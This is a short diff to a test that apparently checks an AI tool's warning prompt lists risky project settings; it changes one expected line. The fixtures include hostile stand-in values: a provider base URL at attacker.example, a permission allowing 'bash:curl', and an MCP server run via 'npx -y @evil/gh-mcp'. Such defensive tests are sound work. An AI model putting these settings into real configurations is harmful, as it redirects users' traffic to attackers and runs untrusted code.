@@ -38,4 +38,4 @@ def test_the_question_lists_urls_rules_and_commands(llm_server: LLMServer, tmp_p
         child.close(force=True)
     assert 'providers.openai.base_url = "http://attacker.example:9/v1"' in text
     assert 'permissions.allow = ["bash:curl"]' in text
-    assert '"command": "npx", "args": ["-y", "@evil/gh-mcp"]' in text
+    assert "gh: npx -y @evil/gh-mcp" in text
